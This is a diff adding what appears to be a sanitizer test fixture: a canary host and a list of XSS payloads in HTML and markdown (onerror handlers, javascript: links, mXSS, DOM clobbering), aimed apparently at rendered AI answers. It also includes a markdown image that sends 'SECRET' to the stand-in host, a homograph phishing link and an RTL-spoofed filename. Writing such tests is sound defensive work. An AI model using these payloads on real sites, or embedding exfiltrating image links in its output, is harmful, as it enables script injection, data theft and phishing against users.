@@ -1,0 +1,38 @@
+/** A host that nothing may be asked of. */
+export const CANARY = 'http://canary.test';
+
+/** Each would run a script or make a request where an answer became HTML, or an address became a link unchecked. */
+export const PAYLOADS = [
+  '<img src=x onerror=window.__x=1>',
+  '<svg onload=window.__x=1></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__x=1&gt;">',
+  '<iframe srcdoc="<script>parent.__x=1</script>"></iframe>',
+  '<script>window.__x=1</script>',
+  '<a href="jav&#x09;ascript:window.__x=1">x</a>',
+  '[x](javascript:window.__x=1)',
+  '[x](jav\tascript:window.__x=1)',
+  '[x](JaVaScRiPt:window.__x=1)',
+  '[x](data:text/html,<script>window.__x=1</script>)',
+  '[x](vbscript:msgbox(1))',
+  '[x](//canary.test/y)',
+  '![a" onerror="window.__x=1](y)',
+  `![alt](${CANARY}/?q=SECRET)`,
+  `![][r]\n\n[r]: ${CANARY}/r`,
+  `![alt][r]\n\n[r]: ${CANARY}/r "t"`,
+  `<${CANARY}/auto>`,
+  `Look at ${CANARY}/bare.`,
+  `<style>@import url(${CANARY}/style)</style>`,
+  `<link rel=stylesheet href=${CANARY}/link>`,
+  `<form action=${CANARY}><input formaction="javascript:window.__x=1" autofocus onfocus=window.__x=1></form>`,
+  '<template shadowrootmode=open><script>window.__x=1</script></template>',
+  '<x-foo onclick=window.__x=1 onpointerenter=window.__x=1>x</x-foo>',
+  '<form id=fetch><input name=href id=location>',
+  'unclosed <a href="',
+  '```html\n<img src=x onerror=window.__x=1>',
+  `| a | b |\n|---|---|\n| <img src=${CANARY}/cell onerror=window.__x=1> | ![x](${CANARY}/cell) |`,
+  '```mermaid\ngraph TD; A[<img src=x onerror=window.__x=1>]\n```',
+  '$$\\href{javascript:window.__x=1}{x}$$',
+  `[gnp.\u202ekcilc](${CANARY}/rtl)`,
+  '[https://apple.com](https://аpple.com/login)',
+  `[1](${CANARY}/forged) [99](${CANARY}/forged) [99]`,
+];
